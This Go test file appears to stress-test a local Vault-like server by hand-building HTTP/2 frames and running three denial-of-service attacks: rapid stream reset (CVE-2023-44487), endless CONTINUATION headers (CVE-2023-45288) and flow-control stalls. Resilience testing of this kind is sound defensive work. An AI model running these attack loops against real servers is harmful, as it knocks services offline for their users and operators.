package soak

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
)

// Of HTTP/2 (RFC 9113) what an attacker needs.
const (
	h2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders      = 0x1
	frameReset        = 0x3
	frameSettings     = 0x4
	frameContinuation = 0x9

	flagEndStream  = 0x1
	flagEndHeaders = 0x4
)

func appendFrame(dst []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	dst = append(dst, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream)
	return append(dst, payload...)
}

// appendField appends a header field as a literal that is not indexed (RFC 7541
// §6.2.2), with a name of its own.
func appendField(dst []byte, name, value string) []byte {
	dst = append(dst, 0)
	dst = append(appendLength(dst, len(name)), name...)
	return append(appendLength(dst, len(value)), value...)
}

// appendLength appends a length with a prefix of 7 bits (RFC 7541 §5.1).
func appendLength(dst []byte, n int) []byte {
	const most = 1<<7 - 1
	if n < most {
		return append(dst, byte(n))
	}
	dst = append(dst, most)
	for n -= most; n >= 0x80; n >>= 7 {
		dst = append(dst, byte(n)|0x80)
	}
	return append(dst, byte(n))
}

func fieldsOf(path string, more ...string) []byte {
	b := appendField(nil, ":method", "GET")
	b = appendField(b, ":scheme", "https")
	b = appendField(b, ":path", path)
	b = appendField(b, ":authority", "localhost")
	for i := 0; i < len(more); i += 2 {
		b = appendField(b, more[i], more[i+1])
	}
	return b
}

// speakers open connections that speak HTTP/2 and give each to use, again and
// again, until ctx ends. What the server says is read and forgotten.
func (h *house) speakers(ctx context.Context, n int, use func(conn net.Conn)) {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			until(ctx, func() {
				conn, err := h.dialTLS(ctx)
				if err != nil {
					return
				}
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				defer stop()
				defer conn.Close()
				all.Go(func() { io.Copy(io.Discard, conn) })
				conn.Write(appendFrame([]byte(h2Preface), frameSettings, 0, 0, nil))
				use(conn)
			})
		})
	}
	all.Wait()
}

// rapidReset begins requests and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, _ *testing.T, h *house) {
	fields := fieldsOf("/v1/"+plainMount+"/names?list=true", "x-vault-token", h.RootToken)
	cancel := binary.BigEndian.AppendUint32(nil, 8)
	h.speakers(ctx, 20, func(conn net.Conn) {
		for stream := uint32(1); stream < 1<<30; {
			var burst []byte
			for range 100 {
				burst = appendFrame(burst, frameHeaders, flagEndStream|flagEndHeaders, stream, fields)
				burst = appendFrame(burst, frameReset, 0, stream, cancel)
				stream += 2
			}
			if _, err := conn.Write(burst); err != nil {
				return
			}
		}
	})
}

// endlessHeaders sends header fields without an end (CVE-2023-45288).
func endlessHeaders(ctx context.Context, _ *testing.T, h *house) {
	more := appendField(nil, "x-more", strings.Repeat("x", 16_000))
	h.speakers(ctx, 20, func(conn net.Conn) {
		_, err := conn.Write(appendFrame(nil, frameHeaders, flagEndStream, 1, fieldsOf("/v1/sys/health")))
		for err == nil {
			_, err = conn.Write(appendFrame(nil, frameContinuation, 0, 1, more))
		}
	})
}

// stalledStreams asks for many large answers at once and gives the server no
// window to send them.
func stalledStreams(ctx context.Context, _ *testing.T, h *house) {
	fields := fieldsOf("/v1/"+plainMount+"/names?list=true", "x-vault-token", h.RootToken)
	h.speakers(ctx, 10, func(conn net.Conn) {
		var burst []byte
		for stream := uint32(1); stream < 2*200; stream += 2 {
			burst = appendFrame(burst, frameHeaders, flagEndStream|flagEndHeaders, stream, fields)
		}
		conn.Write(burst)
		<-ctx.Done()
	})
}
